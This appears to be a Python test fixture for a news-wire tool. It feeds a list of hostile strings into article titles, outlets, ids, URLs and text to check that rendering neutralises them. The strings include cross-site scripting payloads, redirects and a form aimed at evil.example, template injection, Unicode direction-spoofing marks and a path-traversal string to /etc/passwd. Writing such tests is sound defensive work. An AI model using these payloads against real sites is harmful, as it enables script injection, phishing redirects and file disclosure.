"""Titles, outlets, ids, addresses and texts that would like to be more than words.

Each tries to get out of the place it is shown in: an element, an attribute, a comment, a style, a script, an
address, a piece of JSON. None may do anything but stand there.
"""

from __future__ import annotations

from tests.newsroom import wire
from wirecopy.model import Arriving, Article

PAYLOADS = {
    "script": "<script>alert('w')</script>",
    "closing script": "</script><script>alert('w')</script>",
    "image": "\"><img src=x onerror=alert('w')>",
    "image in quotes": "' onfocus=alert('w') autofocus x='",
    "frame": "<iframe srcdoc=\"<script>parent.alert('w')</script>\"></iframe>",
    "frame elsewhere": "<iframe src=//evil.example/></iframe>",
    "style": "</style><style>@import '//evil.example/x.css'; *{display:none}</style>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "base": "<base href=//evil.example/>",
    "title": "</title><script>alert('w')</script>",
    "text area": "</textarea><script>alert('w')</script>",
    "comment": "--><script>alert('w')</script><!--",
    "address": "javascript:alert('w')//",
    "form": "<form action=//evil.example/><button>Read them</button><input name=csrf></form>",
    "template": "{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "entity": "&lt;script&gt;alert('w')&lt;/script&gt;&quot;&#x3c;img src=x onerror=alert(1)&#x3e;",
    "marks": "\u202egnp.\u2066exe\u2069\u202c\u200b\ufeff",
    "path": "../../../../etc/passwd?x=%00#\"><img src=x onerror=alert('w')>",
}


def hostile() -> list[Arriving]:
    """Two articles for each: an agency's and one that changes a figure, so that a story has findings."""
    found = []
    for number, (name, payload) in enumerate(PAYLOADS.items(), start=400):
        text = f"{wire(number)}\nThe guard of {payload} said: “{payload}, I say.” There were 40 of {payload}."
        for version, said in enumerate((text, text.replace("40 of", "70 of"))):
            article = Article(
                id=f"{payload} {version}",
                path=f"{name}.jsonl:{version + 1}",
                text=said,
                outlet=f"{payload} Post {version}",
                url=f"{payload}{number}" if version else f"https://post.example/{payload}",
                title=f"{payload} at the quay {number}",
                published=f"2024-06-{number - 399:02}T0{version}:00:00+00:00",
                language="en",
            )
            found.append(Arriving(article, 0.0, name))
    return found
